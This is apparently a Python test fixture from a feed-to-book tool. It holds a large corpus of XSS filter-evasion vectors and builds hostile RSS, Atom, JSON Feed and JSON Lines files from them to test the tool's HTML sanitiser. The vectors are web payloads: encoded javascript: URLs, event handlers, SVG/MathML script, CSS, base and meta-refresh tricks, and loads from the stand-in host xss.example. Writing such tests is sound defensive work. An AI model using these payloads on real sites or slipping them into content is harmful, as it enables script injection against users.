"""An XSS corpus: script in every disguise a feed can carry, and feeds that carry them.

The vectors are written for this project (after the classic filter-evasion families: encoded and
split schemes, event handlers, SVG and MathML, CSS, ``<base>``, ``<meta refresh>``, data: URLs,
namespace and comment confusion, mutation XSS). Each one calls ``alert(1)`` or loads from
``xss.example``; ``scan`` decides what "survived" means.
"""

from __future__ import annotations

import json
from pathlib import Path

from tests.hostile.corpus import escape

_B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
_B64_SVG = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="
_JS_DECIMAL = "".join(f"&#{ord(c)};" for c in "javascript:")
_JS_DECIMAL_PADDED = "".join(f"&#{ord(c):07d}" for c in "javascript:")
_JS_HEX = "".join(f"&#x{ord(c):x};" for c in "javascript:")

VECTORS: tuple[str, ...] = (
    # <script> in disguise
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script/xss src="http://xss.example/x.js"></script>',
    "<<script>alert(1);//<</script>",
    "<script>/*</script><script>*/alert(1)</script>",
    '<script type="text/plain">alert(1)</script>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<?xml-stylesheet href="javascript:alert(1)"?><p>pi</p>',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    # event handlers, on kept and on dropped elements
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)">click me</p>',
    '<a href="http://ok.example/" onmouseover="alert(1)">hover</a>',
    "<table><tr><td onmouseover=alert(1)>cell</td><td>two</td></tr><tr><td>3</td><td>4</td></tr></table>",
    "<body onload=alert(1)><p>body</p></body>",
    "<details open ontoggle=alert(1)><summary>s</summary>d</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>m</marquee>",
    "<input autofocus onfocus=alert(1)>",
    '<div onpointerenter="alert(1)" ONCLICK="alert(1)" oNfOcUs=alert(1)>mixed case</div>',
    '<a href="http://ok.example/" title=\'" onmouseover="alert(1)\'>quoted</a>',
    # javascript: in href / src / srcset / xlink:href, every spelling
    '<a href="javascript:alert(1)">js</a>',
    '<a href="  JaVaScRiPt:alert(1)">js</a>',
    '<a href="java\tscript:alert(1)">tab</a>',
    '<a href="java&#x09;script:alert(1)">tab entity</a>',
    '<a href="java&#x0A;script:alert(1)">newline entity</a>',
    '<a href="jav&#x0D;ascript:alert(1)">cr entity</a>',
    f'<a href="{_JS_DECIMAL}alert(1)">decimal</a>',
    f'<a href="{_JS_DECIMAL_PADDED}alert(1)">padded decimal</a>',
    f'<a href="{_JS_HEX}alert(1)">hex</a>',
    '<a href="javascript&colon;alert(1)">named colon</a>',
    '<a href="&#106avascript:alert(1)">no semicolon</a>',
    '<a href=" &#14;  javascript:alert(1)">control</a>',
    '<a href="vbscript:msgbox(1)">vbs</a>',
    '<a href="livescript:alert(1)">live</a>',
    f'<a href="data:text/html;base64,{_B64_SCRIPT}">data html</a>',
    '<a href="data:text/html,<script>alert(1)</script>">data html raw</a>',
    '<img src="javascript:alert(1)">',
    "<img src=JaVaScRiPt:alert(1)>",
    f"<img src={_JS_HEX}alert(1)>",
    '<img src="jav\tascript:alert(1);">',
    '<img srcset="javascript:alert(1) 1x, http://ok.example/a.png 2x">',
    '<img src="http://ok.example/a.png" srcset="javascript:alert(1)">',
    '<img data-src="javascript:alert(1)">',
    '<picture><source srcset="javascript:alert(1)"><img src="javascript:alert(2)"></picture>',
    '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
    '<input type="image" src="javascript:alert(1)">',
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="10">svg link</text></a></svg>',
    f'<svg><use xlink:href="data:image/svg+xml;base64,{_B64_SVG}#x"/></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">maction</maction></math>',
    '<math href="javascript:alert(1)"><mi>x</mi></math>',
    # SVG and MathML script
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # CSS
    '<div style="background:url(javascript:alert(1))">css url</div>',
    '<div style="width: expression(alert(1))">css expression</div>',
    '<p style="behavior:url(http://xss.example/x.htc)">behaviour</p>',
    '<span style="background-image:url(http://xss.example/pixel.png)">tracker</span>',
    "<style>@import 'http://xss.example/x.css';</style><p>import</p>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<link rel="stylesheet" href="http://xss.example/x.css">',
    '<table background="javascript:alert(1)"><tr><td>bg</td></tr></table>',
    # <base>, <meta>
    '<base href="javascript:alert(1)//"><a href="/relative">base js</a>',
    '<base href="http://xss.example/"><a href="relative">base host</a><img src="rel.png">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=http://xss.example/">',
    '<meta http-equiv="Set-Cookie" content="session=stolen">',
    # frames, objects, forms
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    f'<object data="data:text/html;base64,{_B64_SCRIPT}"></object>',
    '<embed src="javascript:alert(1)">',
    '<embed src="http://xss.example/x.swf" type="application/x-shockwave-flash">',
    '<applet code="X.class" codebase="http://xss.example/"></applet>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">button</button>',
    '<isindex action="javascript:alert(1)" type="image">',
    # data: URLs carrying HTML or SVG
    f'<img src="data:image/svg+xml;base64,{_B64_SVG}">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    f'<a href="data:image/svg+xml;base64,{_B64_SVG}">svg data link</a>',
    # HTML inside attributes and text that other renderers might read as markup
    '<a title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" href="http://ok.example/">t</a>',
    '<img alt="<script>alert(1)</script>" src="http://ok.example/a.png">',
    "<p>&lt;img src=x onerror=alert(1)&gt; shown as text</p>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt; shown as text</p>",
    "<p>[markdown link](javascript:alert(1)) and ![img](javascript:alert(1))</p>",
    "<p>&lt;javascript:alert(1)&gt; autolink and &lt;http://xss.example/&gt;</p>",
    "<p>text</p>\n\n<div>\n<script>alert(1)</script>\n</div>",
)

TITLE_VECTORS: tuple[str, ...] = (
    "<script>alert(1)</script> in a title",
    "[x](javascript:alert(1)) title",
    '"><img src=x onerror=alert(1)>',
    "`<b>` ${alert(1)} {{alert(1)}}",
)


def rss_feed() -> bytes:
    """One item per vector (escaped HTML in ``description``), plus hostile titles and links."""
    items = []
    for number, vector in enumerate(VECTORS):
        items.append(
            f"<item><title>Vector {number}</title>"
            f"<link>https://ok.example/v{number}</link><guid>https://ok.example/v{number}</guid>"
            f"<author>x@ok.example (Xss Tester)</author>"
            f"<pubDate>Mon, 04 May 2026 10:{number % 60:02d}:00 GMT</pubDate>"
            f"<description>{escape(vector)}</description></item>"
        )
    for number, title in enumerate(TITLE_VECTORS):
        items.append(
            f"<item><title>{escape(title)}</title><link>javascript:alert({number})</link>"
            f"<author>x@ok.example ({escape(title)})</author>"
            f"<category>{escape(title)}</category>"
            f'<enclosure url="javascript:alert(1)" type="audio/mpeg" length="1"/>'
            f"<pubDate>Tue, 05 May 2026 10:0{number}:00 GMT</pubDate>"
            f"<description>{escape('<p>title vector</p>')}</description></item>"
        )
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel>'
        "<title>XSS &lt;script&gt;alert(1)&lt;/script&gt;</title>"
        "<link>javascript:alert(1)</link>" + "".join(items) + "</channel></rss>\n"
    ).encode()


def atom_feed() -> bytes:
    """Atom with inline XHTML (real namespaced elements, SVG included) and a hostile xml:base."""
    xhtml = (
        '<div xmlns="http://www.w3.org/1999/xhtml"><p>inline xhtml</p>'
        '<script>alert(1)</script><p onclick="alert(1)">p</p>'
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
        '<a href="relative/link">relative under a javascript base</a>'
        '<img src="img.png" alt="relative image"/></div>'
    )
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n'
        '<feed xmlns="http://www.w3.org/2005/Atom" xml:base="javascript:alert(1)//">'
        "<title>Atom XSS</title><id>urn:x:atom-xss</id><updated>2026-05-06T00:00:00Z</updated>"
        "<author><name>Atom Xss</name></author>"
        '<entry xml:base="javascript:alert(2)//"><title>Atom inline XHTML</title>'
        "<id>urn:x:atom-xss:1</id><updated>2026-05-06T00:00:00Z</updated>"
        '<link href="javascript:alert(3)"/>'
        f'<content type="xhtml">{xhtml}</content></entry>'
        "<entry><title>Atom escaped HTML</title><id>urn:x:atom-xss:2</id>"
        "<updated>2026-05-06T01:00:00Z</updated>"
        f'<content type="html">{escape("".join(VECTORS[:20]))}</content></entry>'
        "</feed>\n"
    ).encode()


def json_feed() -> bytes:
    items = [
        {
            "id": f"json-{number}",
            "url": "javascript:alert(1)" if number == 0 else f"https://ok.example/j{number}",
            "title": f"JSON vector {number}",
            "content_html": vector,
            "date_published": "2026-05-07T10:00:00Z",
            "authors": [{"name": "Json Xss", "url": "javascript:alert(1)"}],
            "image": "javascript:alert(1)",
        }
        for number, vector in enumerate(VECTORS[20:60])
    ]
    document = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "JSON XSS",
        "home_page_url": "javascript:alert(1)",
        "items": items,
    }
    return json.dumps(document).encode()


def jsonl_records() -> bytes:
    """feed2book's own JSON Lines, forged: hostile urls and content_html that was never cleaned."""
    records = [
        {
            "id": f"jsonl-{number}",
            "url": "javascript:alert(1)",
            "title": f"JSONL vector {number}",
            "authors": [{"name": "Jsonl Xss", "handle": "../../jsonl"}],
            "published": "2026-05-08T10:00:00Z",
            "feed": {"title": "x", "url": "javascript:alert(1)", "site": "javascript:alert(1)"},
            "content_html": vector,
        }
        for number, vector in enumerate(VECTORS[60:])
    ]
    return "".join(json.dumps(record) + "\n" for record in records).encode()


def write_feeds(directory: Path) -> list[Path]:
    paths = []
    for name, data in (
        ("xss.rss", rss_feed()),
        ("xss.atom", atom_feed()),
        ("xss.json", json_feed()),
        ("xss.jsonl", jsonl_records()),
    ):
        path = directory / name
        path.write_bytes(data)
        paths.append(path)
    return paths
